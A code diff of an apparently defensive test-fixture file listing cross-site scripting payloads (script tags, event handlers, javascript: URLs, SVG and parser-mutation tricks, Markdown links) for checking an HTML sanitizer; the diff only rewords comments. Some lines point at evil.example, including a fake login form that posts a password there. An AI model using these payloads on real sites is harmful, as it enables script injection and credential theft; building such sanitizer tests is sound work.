@@ -1,6 +1,6 @@
 /**
- * Hostile texts: each would call `ran()`, take the reader elsewhere or ask another server, were it shown as it stands.
- * Collected from what filters have let through: broken tags, odd signs, foreign namespaces, mutations by the parser.
+ * Hostile texts: each would call `ran()`, navigate away or request another server if rendered unchanged. Collected from
+ * known filter bypasses: broken tags, odd characters, foreign namespaces, parser mutations.
  */
 export const HTML_PAYLOADS: readonly string[] = [
   // Scripts
@@ -16,7 +16,7 @@ export const HTML_PAYLOADS: readonly string[] = [
   "<p><script>ran()</script>Text</p>",
   "\u0000<scr\u0000ipt>ran()</script><img src=x onerror=ran()>",
   "<script>/* </p> */ran()</script>",
-  // Handlers
+  // Event handlers
   "<img src=x onerror=ran()>",
   "<img src=x onerror='ran()'",
   "<img src='/images/site/1' onload=ran()>",
@@ -50,7 +50,7 @@ export const HTML_PAYLOADS: readonly string[] = [
   "<p title='x'onclick='ran()'>Text</p>",
   '<p title="`"onclick=ran()//`">Text</p>',
   "<br onclick=ran()>",
-  // Addresses
+  // URLs
   "<a href=javascript:ran()>Press</a>",
   "<a href=' javascript:ran()'>Press</a>",
   "<a href=JaVaScRiPt:ran()>Press</a>",
@@ -78,7 +78,7 @@ export const HTML_PAYLOADS: readonly string[] = [
   "<a href=/donate download=receipt.exe>Press</a>",
   "<area href=javascript:ran()>",
   "<a xlink:href=javascript:ran()>Press</a>",
-  // Pictures and what asks elsewhere
+  // Images and other requests to elsewhere
   "<img src=https://evil.example/pixel.png>",
   "<img src=//evil.example/pixel.png>",
   "<img src=data:image/svg+xml,<svg/onload=ran()>>",
@@ -98,7 +98,7 @@ export const HTML_PAYLOADS: readonly string[] = [
   "<embed src=javascript:ran()>",
   "<form action=https://evil.example><input name=password><button>Log in</button></form>",
   "<button formaction=javascript:ran()>Press</button>",
-  // Foreign namespaces, and trees that change when they are read again
+  // Foreign namespaces, and trees that change when parsed again
   "<svg onload=ran()>",
   "<svg><script>ran()</script></svg>",
   "<svg><a xlink:href=javascript:ran()><text y=20>Press</text></a></svg>",
@@ -115,7 +115,7 @@ export const HTML_PAYLOADS: readonly string[] = [
   "<p id=cookie name=body>Text</p><form id=x><input name=attributes></form>",
 ];
 
-/** What a field for an address must never keep; `marker` makes it findable. */
+/** Values that a URL field must never store; `marker` makes them findable. */
 export const URL_PAYLOADS = (marker: string): readonly string[] => [
   `javascript:${marker}`,
   ` javascript:${marker}`,
@@ -139,7 +139,7 @@ export const URL_PAYLOADS = (marker: string): readonly string[] => [
   `/images/../${marker}`,
 ];
 
-/** Links and pictures of a post that a page must not follow. */
+/** Links and images of a post that a page must not render. */
 export const MARKDOWN_PAYLOADS: readonly string[] = [
   "[Press](javascript:ran())",
   "[Press](JaVaScRiPt:ran())",
